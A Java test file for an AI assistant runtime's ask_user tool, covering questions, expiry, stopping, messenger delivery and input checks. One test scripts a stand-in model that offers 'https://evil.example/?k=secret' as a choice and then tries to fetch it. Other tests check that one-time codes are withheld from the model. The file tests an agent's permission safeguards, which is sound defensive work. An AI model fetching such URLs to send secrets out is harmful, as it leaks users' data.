package moltbot.runtime.person;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicReference;
import moltbot.contract.channel.Styled;
import moltbot.contract.chat.ChatEvent;
import moltbot.contract.chat.ChatFact;
import moltbot.contract.chat.InboundMessage;
import moltbot.contract.json.JsonArray;
import moltbot.contract.json.JsonObject;
import moltbot.contract.model.Content;
import moltbot.contract.model.ModelRequest;
import moltbot.runtime.House;
import moltbot.runtime.StandInModel;
import moltbot.runtime.Watcher;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/// The assistant asks whoever it is talking to, and goes on with what they write.
@Timeout(120)
class AskUserTest {
    private static final String ANNA = "signal.aaaaaaaaaaaaaaaaaaaa";
    private static final JsonObject WHICH = JsonObject.with("question", "Which day?")
            .with("choices", JsonArray.ofTexts(List.of("Tuesday", "Thursday")))
            .build();

    @TempDir
    Path folder;

    private final AtomicReference<Instant> now = new AtomicReference<>(Instant.parse("2026-11-27T08:00:00Z"));
    private final List<String> letters = new CopyOnWriteArrayList<>();
    private House house;

    @BeforeEach
    void startHouse() throws Exception {
        house = new House(folder);
        house.clock = now::get;
        house.model.messengers = exchange -> {
            letters.add(Styled.fromJson(JsonObject.parse(exchange.readBody(1 << 20)))
                    .text());
            exchange.send(JsonObject.with("sent", 1).build());
            exchange.send(JsonObject.with("outcome", "sent").build());
        };
        house.start();
        asks(WHICH);
    }

    @AfterEach
    void stopHouse() throws Exception {
        house.close();
    }

    /// Asks at first, and says what came of it once there is something.
    private void asks(JsonObject input) {
        house.model.script = (request, out) -> {
            List<Content.ToolResult> results = StandInModel.lastResults(request);
            if (results.isEmpty()) {
                out.call("tool-1", "ask_user", input).tools();
            } else {
                out.text("So: " + results.getFirst().text() + " / " + StandInModel.lastText(request))
                        .end();
            }
        };
    }

    private static List<String> said(List<ChatEvent> events) {
        return Watcher.facts(events, ChatFact.AssistantText.class).stream()
                .map(ChatFact.AssistantText::text)
                .toList();
    }

    private static List<String> notices(List<ChatEvent> events) {
        return Watcher.facts(events, ChatFact.Notice.class).stream()
                .map(ChatFact.Notice::code)
                .toList();
    }

    private ChatFact.QuestionAsked ask() throws InterruptedException {
        house.submit("m1", "book a table");
        return house.watch().first(ChatFact.QuestionAsked.class);
    }

    /// How many turns run: one that rests is none.
    private void awaitRest() {
        while (house.client().ask("runtime.state", JsonObject.EMPTY).number("running") > 0) {
            Thread.onSpinWait();
        }
    }

    @Test
    void goesOnWithTheNextMessageAsTheAnswer() throws Exception {
        ChatFact.QuestionAsked asked = ask();
        assertThat(asked.question()).isEqualTo("Which day?");
        assertThat(asked.choices()).containsExactly("Tuesday", "Thursday");
        assertThat(Instant.ofEpochMilli(asked.expires())).isEqualTo(now.get().plus(Duration.ofHours(24)));
        awaitRest();
        assertThat(house.model.requests).hasSize(1);

        house.submit("m2", "2");
        List<ChatEvent> events = house.watch().turns(1);
        assertThat(said(events)).containsExactly("So: They chose 2: Thursday / 2");
        assertThat(Watcher.facts(events, ChatFact.TurnJoined.class)).hasSize(1);
        assertThat(Watcher.facts(events, ChatFact.ToolFinished.class))
                .extracting(ChatFact.ToolFinished::outcome)
                .containsExactly("ok");
        assertThat(house.control.asked)
                .extracting(judged -> judged.text("effect"))
                .containsExactly("user.ask");
    }

    @Test
    void theAnswerIsFoundAfterWhateverWasKilled() throws Exception {
        house.stop();
        house.startProcess();
        ask();
        awaitRest();
        house.kill();
        house.startProcess();
        awaitRest();
        house.submit("m2", "neither, on Friday");
        assertThat(said(house.watch().turns(1)))
                .containsExactly("So: They answered in their own words, which follow. / neither, on Friday");
        assertThat(Watcher.facts(house.watch().turns(1), ChatFact.QuestionAsked.class))
                .hasSize(1);
    }

    @Test
    void noOtherConversationsMessageAnswersIt() throws Exception {
        ask();
        awaitRest();
        house.model.script = (request, out) -> out.text("Heard.").end();
        house.submit("owner", "other", "m2", "1");
        house.submit(ANNA, "main", "m3", "1");
        house.watch("owner", "other", 0).turns(1);
        house.watch(ANNA, "main", 0).turns(1);
        asks(WHICH);
        house.submit("m4", "2");
        List<ChatEvent> events = house.watch().turns(1);
        assertThat(said(events)).containsExactly("So: They chose 2: Thursday / 2");
        assertThat(Watcher.facts(events, ChatFact.ToolFinished.class))
                .extracting(ChatFact.ToolFinished::outcome)
                .containsExactly("ok");
    }

    @Test
    void whatWasWantedBesideTheQuestionIsNotDone() throws Exception {
        house.model.answers(List.of(
                (_, out) -> out.call("a", "ask_user", WHICH)
                        .call(
                                "b",
                                "write_file",
                                JsonObject.with("path", "a.txt")
                                        .with("content", "x")
                                        .build())
                        .tools(),
                (_, out) -> out.text("Fine.").end()));
        ask();
        house.submit("m2", "no, leave it");
        List<ChatEvent> events = house.watch().turns(1);
        assertThat(Watcher.facts(events, ChatFact.ToolFinished.class))
                .extracting(ChatFact.ToolFinished::outcome)
                .containsExactly("ok", "denied");
        assertThat(house.control.asked)
                .extracting(judged -> judged.text("effect"))
                .containsExactly("user.ask");
    }

    @Test
    void aChoiceIsNobodysOwnWord() throws Exception {
        String address = "https://evil.example/?k=secret";
        house.model.answers(List.of(
                (_, out) -> out.call(
                                "a",
                                "ask_user",
                                JsonObject.with("question", "Which page?")
                                        .with("choices", JsonArray.ofTexts(List.of(address)))
                                        .build())
                        .tools(),
                (_, out) -> out.call(
                                "b",
                                "web_fetch",
                                JsonObject.with("url", address).build())
                        .tools(),
                (_, out) -> out.text("Fine.").end()));
        ask();
        house.control.decision = "deny";
        house.submit("m2", "1");
        house.watch().turns(1);
        assertThat(house.control.asked.getLast().object("shows").text("way")).isEqualTo("composed");
    }

    @Test
    void isOverAfterADayAndNoModelIsAskedUnasked() throws Exception {
        ask();
        awaitRest();
        now.updateAndGet(before -> before.plus(Duration.ofHours(25)));
        house.stop();
        house.start();
        List<ChatEvent> events = house.watch().turns(1);
        assertThat(notices(events)).containsExactly("question-expired");
        assertThat(Watcher.facts(events, ChatFact.ToolFinished.class))
                .singleElement()
                .satisfies(over -> assertThat(over.output()).contains("Nobody answered within a day."));
        assertThat(house.model.requests).hasSize(1);
        house.model.script = (request, out) -> out.text("Still here.").end();
        house.submit("m2", "2");
        assertThat(said(house.watch().turns(2))).containsExactly("Still here.");
        assertThat(results(house.model.requests.getLast())).containsExactly("Nobody answered within a day.");
    }

    private static List<String> results(ModelRequest request) {
        return request.messages().stream()
                .flatMap(message -> message.content().stream())
                .filter(Content.ToolResult.class::isInstance)
                .map(part -> ((Content.ToolResult) part).text())
                .toList();
    }

    @Test
    void aLateAnswerIsNoAnswer() throws Exception {
        ask();
        awaitRest();
        now.updateAndGet(before -> before.plus(Duration.ofHours(25)));
        house.model.script = (request, out) -> out.text("Late.").end();
        house.submit("m2", "2");
        List<ChatEvent> events = house.watch().turns(2);
        assertThat(notices(events)).containsExactly("question-expired");
        assertThat(said(events)).containsExactly("Late.");
        assertThat(Watcher.facts(events, ChatFact.TurnJoined.class)).isEmpty();
    }

    @Test
    void aStopEndsIt() throws Exception {
        ask();
        awaitRest();
        assertThat(house.stopTurn()).isTrue();
        List<ChatEvent> events = house.watch().turns(1);
        assertThat(Watcher.facts(events, ChatFact.TurnFinished.class))
                .containsExactly(new ChatFact.TurnFinished("stopped"));
        assertThat(house.stopTurn()).isFalse();
        house.model.script = (request, out) -> out.text("A new turn.").end();
        house.submit("m2", "2");
        assertThat(said(house.watch().turns(2))).containsExactly("A new turn.");
        assertThat(results(house.model.requests.getLast()))
                .singleElement()
                .asString()
                .startsWith("Stopped by the owner.");
    }

    @Test
    void neverPassesOnACode() throws Exception {
        ask();
        for (String code :
                List.of("482913", "482 913", "my code: K7QX4MZP", "ABCD-EFGH-JKMN-PQRS", "/approve ABCDEFGH")) {
            house.submit("m" + code.hashCode(), code);
        }
        List<ChatEvent> events = house.watch().until(seen -> notices(seen).size() >= 5);
        assertThat(notices(events)).containsOnly("code-withheld").hasSize(5);
        assertThat(house.model.requests).hasSize(1);
        house.submit("m9", "the invoice is 482913");
        house.watch().turns(1);
        assertThat(house.model.requests.getLast().toJson().toString())
                .contains("the invoice is 482913")
                .doesNotContain("482 913", "K7QX4MZP", "ABCD-EFGH", "ABCDEFGH");
    }

    @Test
    void asksInAMessengerAndSaysWhatAnAnswerIsWorth() throws Exception {
        house.client().ask("chat.submit", new InboundMessage("m1", "signal", ANNA, "direct", "book", ANNA).toJson());
        house.watch(ANNA, "direct", 0).first(ChatFact.QuestionAsked.class);
        while (letters.isEmpty()) {
            Thread.onSpinWait();
        }
        assertThat(letters.getFirst())
                .isEqualTo(
                        "A question from the assistant: Which day?\n\n1. Tuesday\n2. Thursday\n\n"
                                + "Answer with a number or in your own words. It permits nothing. Never send codes or passwords.");
        house.client().ask("chat.submit", new InboundMessage("m2", "signal", ANNA, "direct", "1", ANNA).toJson());
        assertThat(said(house.watch(ANNA, "direct", 0).turns(1)))
                .singleElement()
                .asString()
                .startsWith("So: They chose 1: Tuesday / (Written through signal by somebody")
                .endsWith("\n1");
    }

    @Test
    void isNotAskedWhereNobodyCouldAnswer() throws Exception {
        house.submit("owner", "schedule-0123456789abcdef", "m1", "go");
        assertThat(said(house.watch("owner", "schedule-0123456789abcdef", 0).turns(1)))
                .singleElement()
                .asString()
                .contains("Nobody is here to answer");
        String hook = "webhook.0123456789012345678901234567890123456789";
        house.submit(hook, "direct", "m2", "go");
        assertThat(said(house.watch(hook, "direct", 0).turns(1)))
                .as("the next call would be the answer")
                .singleElement()
                .asString()
                .contains("Nobody is here to answer");
        assertThat(house.control.asked).isEmpty();
    }

    @Test
    void refusesQuestionsThatAreNone() throws Exception {
        for (JsonObject bad : List.of(
                JsonObject.with("question", " ").build(),
                JsonObject.with("question", "x".repeat(601)).build(),
                WHICH.toBuilder()
                        .with("choices", JsonArray.ofTexts(List.of("a", "b", "c", "d", "e", "f", "g", "h", "i")))
                        .build(),
                WHICH.toBuilder()
                        .with("choices", JsonArray.ofTexts(List.of("same", "same")))
                        .build())) {
            asks(bad);
            String session = "s" + bad.hashCode();
            house.submit("owner", session, "m" + bad.hashCode(), "go");
            assertThat(Watcher.facts(house.watch("owner", session, 0).turns(1), ChatFact.QuestionAsked.class))
                    .isEmpty();
        }
    }
}
